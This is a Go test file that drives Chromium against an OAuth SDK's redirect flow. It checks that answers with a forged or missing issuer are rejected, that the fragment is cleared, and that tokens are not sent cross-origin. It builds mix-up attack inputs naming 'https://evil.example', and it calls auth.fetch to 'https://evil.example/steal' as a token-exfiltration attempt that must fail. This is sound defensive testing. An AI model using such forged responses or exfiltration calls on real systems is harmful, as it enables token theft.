package web_test

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"chatauth/backend/apptest"
	"chatauth/backend/sqlstore/sqlstoretest"
	"chatauth/web/browsertest"
)

// redirectPage takes the answer of /customer/authorize when it loads with
// a fragment, as a site using the SDK's redirect flow does.
const redirectPage = `<!doctype html><meta charset="utf-8"><title>shop</title>
<script type="module">
import { init } from "SERVER/web/dist/chatauth.js";
try {
  window.auth = await init({ serverUrl: "SERVER", clientId: "CLIENT", flow: "redirect", redirectUri: location.origin + "/back", dpop: false });
  if (location.hash.length > 1) {
    try {
      const t = await auth.handleRedirect();
      window.result = { entityId: t.entityId, tokenType: t.tokenType, left: location.hash };
    } catch (e) { window.redirectError = e.code; }
  }
  window.ready = true;
} catch (e) { window.initError = e.code + ": " + e.message; }
</script>`

// TestSDKRedirectChecksIssuerInChromium: the redirect flow takes a real
// /customer/authorize answer only when its iss names the server the SDK
// was set up with (RFC 9207), errors included; a missing or other iss is
// issuer_mismatch, and the fragment is wiped either way. auth.fetch never
// sends the token to another origin.
func TestSDKRedirectChecksIssuerInChromium(t *testing.T) {
	e, server := browsertest.Serve(t, sqlstoretest.SQLite(t), nil, "localhost", nil)
	var clientID string
	pageSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Write([]byte(strings.NewReplacer("SERVER", server, "CLIENT", clientID).Replace(redirectPage)))
	}))
	t.Cleanup(pageSrv.Close)
	back := pageSrv.URL + "/back"
	admin := apptest.Bearer(e.Login(apptest.AdminEmail, apptest.AdminPassword).Str("token"))
	// The redirect flow cannot carry a DPoP proof: such a widget says
	// optional.
	cl := e.Do("POST", "/api/v1/oauth/clients", map[string]any{"name": "Shop widget", "client_type": "public", "allowed_origins": []string{pageSrv.URL}, "redirect_uris": []string{back}, "dpop": "optional"}, admin)
	if cl.Status != 201 {
		t.Fatalf("client: %s", cl.Raw)
	}
	clientID = cl.Str("client_id")
	if r := e.Do("GET", "/web/dist/chatauth.js", nil); r.Status != 200 {
		t.Skip("the SDK bundle is not built; run ./build.sh first")
	}
	ctx, cancel := browsertest.Start(t)
	defer cancel()

	authorize := func(state, prompt string) string {
		q := url.Values{"response_type": {"token"}, "client_id": {clientID}, "state": {state}, "redirect_uri": {back}}
		if prompt != "" {
			q.Set("prompt", prompt)
		}
		return server + "/customer/authorize?" + q.Encode()
	}
	// answer is what /customer/authorize sends the browser to, read
	// without following it.
	noFollow := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	answer := func(state, prompt string) *url.URL {
		res, err := noFollow.Get(authorize(state, prompt))
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		u, err := url.Parse(res.Header.Get("Location"))
		if err != nil || !strings.HasPrefix(u.String(), back+"#") {
			t.Fatalf("authorize answered %d %q", res.StatusCode, res.Header.Get("Location"))
		}
		return u
	}
	// land opens target in the page's tab after the page kept state, as
	// startRedirect does before it sends the page away.
	land := func(state, target string) {
		t.Helper()
		if err := chromedp.Do(ctx, chromedp.Navigate(back)); err != nil {
			t.Fatal(err)
		}
		waitReady(t, ctx)
		browsertest.Eval[bool](t, ctx, `sessionStorage.setItem("chatauth_state:`+clientID+`", "`+state+`"), true`)
		// Through another page of the site: a navigation to back#… from
		// back itself would only move to the fragment.
		for _, u := range []string{pageSrv.URL + "/elsewhere", target} {
			if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
				t.Fatal(err)
			}
		}
		waitReady(t, ctx)
	}
	type result struct {
		EntityID, TokenType, Left string
	}

	// The real flow: the browser goes to /customer/authorize and comes
	// back with the token in the fragment, iss and all.
	land("st-1", authorize("st-1", ""))
	if got := browsertest.Eval[string](t, ctx, `window.redirectError || ""`); got != "" {
		t.Fatalf("a real answer was refused: %s", got)
	}
	res := browsertest.Eval[result](t, ctx, `window.result`)
	if res.EntityID == "" || res.TokenType != "Bearer" || res.Left != "" {
		t.Fatalf("redirect answer: %+v", res)
	}

	// The same kind of answer with another iss, or none: refused, and the
	// token is not taken.
	for _, c := range []struct {
		name, want string
		edit       func(url.Values)
	}{
		{"another iss", "issuer_mismatch", func(v url.Values) { v.Set("iss", "https://evil.example") }},
		{"no iss", "issuer_mismatch", func(v url.Values) { v.Del("iss") }},
		{"iss twice", "invalid_request", func(v url.Values) { v.Add("iss", server) }},
	} {
		name, edit := c.name, c.edit
		u := answer("st-2", "")
		frag, _ := url.ParseQuery(u.Fragment)
		if frag.Get("iss") != server || frag.Get("access_token") == "" {
			t.Fatalf("the server's answer: %s", u)
		}
		edit(frag)
		u.Fragment, u.RawFragment = "", ""
		land("st-2", u.String()+"#"+frag.Encode())
		if got := browsertest.Eval[string](t, ctx, `window.redirectError || ""`); got != c.want {
			t.Errorf("%s: want %s, got %q (result %v)", name, c.want, got, browsertest.Eval[any](t, ctx, `window.result || null`))
		}
		if left := browsertest.Eval[string](t, ctx, `location.hash`); left != "" {
			t.Errorf("%s: the fragment stayed in the address bar: %q", name, left)
		}
	}

	// An error answer is the server's error when iss is ours, and
	// issuer_mismatch when it is not (a mix-up attacker's error).
	u := answer("st-3", "bogus")
	land("st-3", u.String())
	if got := browsertest.Eval[string](t, ctx, `window.redirectError || ""`); got != "invalid_request" {
		t.Fatalf("the server's error answer: %q (%s)", got, u)
	}
	frag, _ := url.ParseQuery(u.Fragment)
	frag.Set("iss", "https://evil.example")
	u.Fragment, u.RawFragment = "", ""
	land("st-3", u.String()+"#"+frag.Encode())
	if got := browsertest.Eval[string](t, ctx, `window.redirectError || ""`); got != "issuer_mismatch" {
		t.Fatalf("an error answer of another issuer: %q", got)
	}

	// auth.fetch keeps the token at home.
	got := browsertest.Await[string](t, ctx, `auth.getToken().then(() => auth.fetch("https://evil.example/steal")).then(() => "sent", (e) => e.code)`)
	if got != "invalid_request" {
		t.Fatalf("auth.fetch to another origin: %q", got)
	}
}
